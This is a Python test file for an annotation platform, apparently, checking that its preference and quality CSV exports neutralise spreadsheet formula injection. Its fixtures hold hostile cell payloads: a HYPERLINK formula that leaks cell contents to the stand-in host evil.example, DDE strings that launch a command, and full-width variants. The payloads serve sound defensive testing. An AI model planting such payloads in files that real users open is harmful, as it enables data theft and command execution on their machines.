"""CSV exports do not run formulas: hostile model outputs, campaign names, pool names and
usernames go in through the API, the preference CSV and the quality CSV come out through the
HTTP export endpoints, and every cell a spreadsheet would read as a formula carries a leading
apostrophe, while numbers stay numbers. What counts as a formula start is written out here,
not imported from the code under test, so a start the code forgets makes these tests fail."""

from __future__ import annotations

import csv
import io

import pytest

from common.roles import Role
from tests.annotation.admin_api.helpers import API, Client, ClientFor, export, jsonl, rate, upload
from tests.factories import make_campaign, make_pool, make_task

pytestmark = pytest.mark.django_db

# =, +, -, @, a leading tab, carriage return or line feed, and the full-width = + - @.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# What a hostile model, importer or sign-up could write: each starts with a formula character.
HOSTILE_OUTPUTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
HOSTILE_IMPORTED = [
    "=1+1",
    "\t=2+2",
    "\r=3+3",
    "@IMPORTXML(1)",
    "\n=4+4",
    "\n@SUM(2)",
    '\uff1dHYPERLINK("http://evil.example/","wide")',
    "\uff0b1+1",
    "\uff0d2+3",
    "\uff20SUM(1)",
]
HOSTILE_CAMPAIGN = '\uff1dHYPERLINK("http://evil.example","campaign")'
HOSTILE_POOL = "\uff0bpool=1"
# Full-width forms cannot be tested here: Django folds a username to NFKC ("\uff0b" to "+").
# At least five, so the pool is big enough for the report to compare it (and print its name).
HOSTILE_USERNAMES = [
    "=2+5",
    "@mallory",
    "-dave",
    "+erin",
    "\t=frank",
    "\n=ivan",
]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _cells(body: str) -> list[str]:
    _header, *rows = list(csv.reader(io.StringIO(body, newline="")))
    return [cell for row in rows for cell in row]


def _unescaped(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: formula-like text that is not a plain number."""
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]


def _escaped(cells: list[str]) -> set[str]:
    return {c for c in cells if c.startswith("'") and c[1:].startswith(FORMULA_STARTS)}


@pytest.fixture
def hostile_campaign(admin: Client, client_for: ClientFor) -> int:
    """A ranking campaign named like a formula, two tasks of formula-like answers, five
    raters with formula-like names who judge both through the rater API, and imported
    preference pairs with formula-like texts."""
    raters = [client_for(username=name) for name in HOSTILE_USERNAMES]
    campaign = make_campaign(
        name=HOSTILE_CAMPAIGN, responses_per_task=4, overlap=len(HOSTILE_USERNAMES)
    )
    for _ in range(2):
        make_task(campaign, texts=HOSTILE_OUTPUTS)
    make_pool(members=[r.user for r in raters], campaigns=[campaign], name=HOSTILE_POOL)
    for n, rater in enumerate(raters):
        rate(rater, f"csv-key-{n}-1")
        rate(rater, f"csv-key-{n}-2")
    pairs = jsonl(
        *(
            {"prompt": "=0", "chosen": chosen, "rejected": rejected}
            for chosen, rejected in zip(HOSTILE_IMPORTED[::2], HOSTILE_IMPORTED[1::2], strict=True)
        )
    )
    imported = upload(admin, campaign.pk, "pairs.jsonl", pairs, source="=evil-source")
    assert imported.status_code == 201, imported.content
    return campaign.pk


def test_preference_csv_escapes_every_formula_cell(
    client_for: ClientFor, hostile_campaign: int
) -> None:
    # given
    engineer = client_for(Role.ML_ENGINEER)

    # when
    _, body = export(engineer, format="csv", campaign=hostile_campaign)

    # then
    cells = _cells(body)
    header = next(csv.reader(io.StringIO(body)))
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert header[6:8] == ["chosen", "rejected"]
    assert _unescaped(cells) == []
    assert _escaped(cells) == {"'" + text for text in HOSTILE_OUTPUTS + HOSTILE_IMPORTED}
    # 6 raters x 2 tasks x 5 non-tie pairs of [[B], [A, C], [D]], plus 5 imported pairs
    assert len(rows) == 65
    hostile = [c for r in rows for c in (r["chosen"], r["rejected"])]
    assert all(c.startswith("'") for c in hostile)
    print(f"\npreference CSV: hostile cells escaped {len(hostile)} of {len(hostile)}")
    # numbers stay numbers: the margin column sums in a spreadsheet
    assert {row["margin"] for row in rows} == {"1.0", "2.0"}


def test_quality_csv_escapes_campaign_pool_and_rater_names(
    admin: Client, hostile_campaign: int
) -> None:
    # when
    response = admin.get(f"{API}/campaigns/{hostile_campaign}/quality/", {"format": "csv"})

    # then
    assert response.status_code == 200
    body = response.content.decode()
    cells = _cells(body)
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert _unescaped(cells) == []
    names = {row["name"] for row in rows}
    assert {"'" + HOSTILE_CAMPAIGN, "'" + HOSTILE_POOL} <= names
    assert {"'" + name for name in HOSTILE_USERNAMES} <= names
    assert not names & {HOSTILE_CAMPAIGN, HOSTILE_POOL, *HOSTILE_USERNAMES}
    escaped = [c for c in cells if c.startswith("'")]
    assert all(c[1:].startswith(FORMULA_STARTS) for c in escaped)
    print(f"\nquality CSV: hostile cells escaped {len(escaped)} of {len(escaped)}, 0 left")
    # figures stay numbers (some are negative: a "-0.25" is a value, not a formula)
    values = [row["value"] for row in rows if row["value"]]
    assert values
    assert all(_is_number(v) or v in ("True", "False") for v in values)
